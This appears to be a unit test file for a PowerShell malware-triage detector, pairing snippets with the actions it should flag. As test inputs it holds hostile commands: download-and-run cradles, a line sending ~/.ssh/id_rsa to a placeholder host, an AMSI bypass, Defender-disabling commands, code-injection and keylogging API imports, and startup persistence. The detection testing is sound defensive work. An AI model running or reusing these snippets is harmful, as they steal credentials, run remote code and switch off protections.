"""What PowerShell does, with what flows into what; everyday scripts beside it."""

import pytest

from tests.unit.triage.facts.reading import acts, chains, told
from vedette.core.errors import LimitHit
from vedette.triage.allowance import Allowance
from vedette.triage.fact import Act, Fact, When
from vedette.triage.facts import facts
from vedette.triage.kinds import Kind
from vedette.triage.sample import Sample

PS = Kind.POWERSHELL


@pytest.mark.parametrize(
    ("code", "chain"),
    [
        (
            "IEX (New-Object Net.WebClient).DownloadString('http://a.invalid/a')",
            (Act.RUNS_CODE, Act.DOWNLOADS),
        ),
        ("$c = iwr http://a.invalid/a -UseBasicParsing; iex $c.Content", (Act.RUNS_CODE, Act.DOWNLOADS)),
        ("irm http://a.invalid/a | iex", (Act.RUNS_CODE, Act.DOWNLOADS)),
        ("iex (curl http://a.invalid/a)", (Act.RUNS_CODE, Act.DOWNLOADS)),
        (
            "iwr http://a.invalid/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
            (Act.RUNS_COMMAND, Act.DOWNLOADS),
        ),
        (
            '$p = "$env:TEMP\\b.exe"\n(New-Object Net.WebClient).DownloadFile("http://a.invalid/", $p)\n& $p',
            (Act.RUNS_COMMAND, Act.DOWNLOADS),
        ),
        (
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('ZWNobyBoaSB0aGVyZQ==')))",
            (Act.RUNS_CODE, Act.DECODES),
        ),
        (
            "[Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQAAMAAAA='))",
            (Act.LOADS_CODE, Act.DECODES),
        ),
        (
            "$d = Get-Content ~\\.ssh\\id_rsa\nInvoke-RestMethod http://a.invalid -Method Post -Body $d",
            (Act.SENDS, Act.READS_SECRET),
        ),
        ('$w = whoami; iwr "http://a.invalid/?$w"', (Act.SENDS, Act.READS_HOST)),
        ("$t = New-Object Net.Sockets.TcpClient('198.51.100.7', 443)", (Act.CONNECTS,)),
        (
            "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('amsiInitFailed')",
            (Act.DISABLES_DEFENCE,),
        ),
        (
            "Add-Type '[DllImport(\"kernel32\")] public static extern IntPtr VirtualAlloc(IntPtr a);'",
            (Act.INJECTS,),
        ),
        (
            "Add-Type '[DllImport(\"user32\")] public static extern short GetAsyncKeyState(int v);'",
            (Act.READS_KEYS,),
        ),
        ("[Runtime.InteropServices.Marshal]::Copy($b, 0, $p, $b.Length)", (Act.INJECTS,)),
        (
            "Set-Content \"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat\" 'x'",
            (Act.PERSISTS,),
        ),
        ("Start-Sleep -Seconds 600", (Act.EVADES,)),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", (Act.DISABLES_DEFENCE,)),
        ("Add-MpPreference -ExclusionPath $env:TEMP", (Act.DISABLES_DEFENCE,)),
        ("&('ie'+'x') 'echo hi there'", (Act.OBFUSCATED,)),
        ("i`E`x 'echo hi there'", (Act.OBFUSCATED,)),
        ("Get-Clipboard", (Act.READS_CLIPBOARD,)),
    ],
)
def test_what_it_does_and_from_what(code: str, chain: tuple[Act, ...]) -> None:
    assert chain in chains(code, PS)


@pytest.mark.parametrize(
    "code",
    [
        "Write-Host 'hello'; Get-ChildItem | Sort-Object Length",
        "$x = 1..10 | ForEach-Object { $_ * 2 }\nif ($x -gt 3) { Write-Output $x }",
        "function Add-Two($a, $b) { return $a + $b }\nAdd-Two 1 2",
        "Set-MpPreference -DisableRealtimeMonitoring $false | Out-Null; Set-Content log.txt 'on'",
        "Add-Type '[DllImport(\"user32\")] public static extern bool LockWorkStation();'",
        "$log = Join-Path $PSScriptRoot 'build.log'\nSet-Content $log 'done'",
    ],
)
def test_everyday_scripts_accuse_nobody(code: str) -> None:
    assert acts(code, PS) <= {Act.WRITES_FILE, Act.READS_FILE}


@pytest.mark.parametrize("reader", ["sls 'v'", "ogv", "clip", "jq .", "C:\\tools\\jq.exe .", "findstr v"])
def test_what_only_reads_a_download_runs_none_of_it(reader: str) -> None:
    assert (Act.RUNS_COMMAND, Act.DOWNLOADS) not in chains(f"irm http://a.invalid/a | {reader}", PS)


@pytest.mark.parametrize("runner", ["powershell -", "pwsh -Command -", "cmd", "python", "bash"])
def test_what_takes_commands_from_a_pipe_runs_what_was_downloaded(runner: str) -> None:
    assert (Act.RUNS_COMMAND, Act.DOWNLOADS) in chains(f"irm http://a.invalid/a | {runner}", PS)


def test_a_fact_says_where_it_stands() -> None:
    (fact,) = [one for one in told("echo ü\nirm http://a.invalid/a\n", PS) if one.act is Act.DOWNLOADS]
    assert fact.quote == "irm http://a.invalid/a"
    assert fact.when is When.RUN
    assert (fact.place.line, fact.place.column, fact.place.end_column) == (2, 1, 23)  # type: ignore[union-attr]


def test_a_function_nobody_calls_is_read_too() -> None:
    assert Act.DOWNLOADS in acts("function f { irm http://a.invalid/a }", PS)


def test_brackets_in_brackets_hide_nothing_before_them_and_are_told() -> None:
    code = f"iex (iwr http://a.invalid/a)\n{'(' * 20_000}1{')' * 20_000}\n"
    found: list[Fact] = []
    with pytest.raises(LimitHit, match="nested too deeply"):
        found.extend(facts(Sample(name="a.ps1", data=code.encode(), kind=PS), Allowance()))
    assert Act.RUNS_CODE in {one.act for one in found}


@pytest.mark.parametrize("nameless", ["${}", '"${}"', "echo a${}b"])
def test_a_variable_without_a_name_hides_nothing(nameless: str) -> None:
    assert Act.DOWNLOADS in acts(f"{nameless}\nirm http://a.invalid/a", PS)
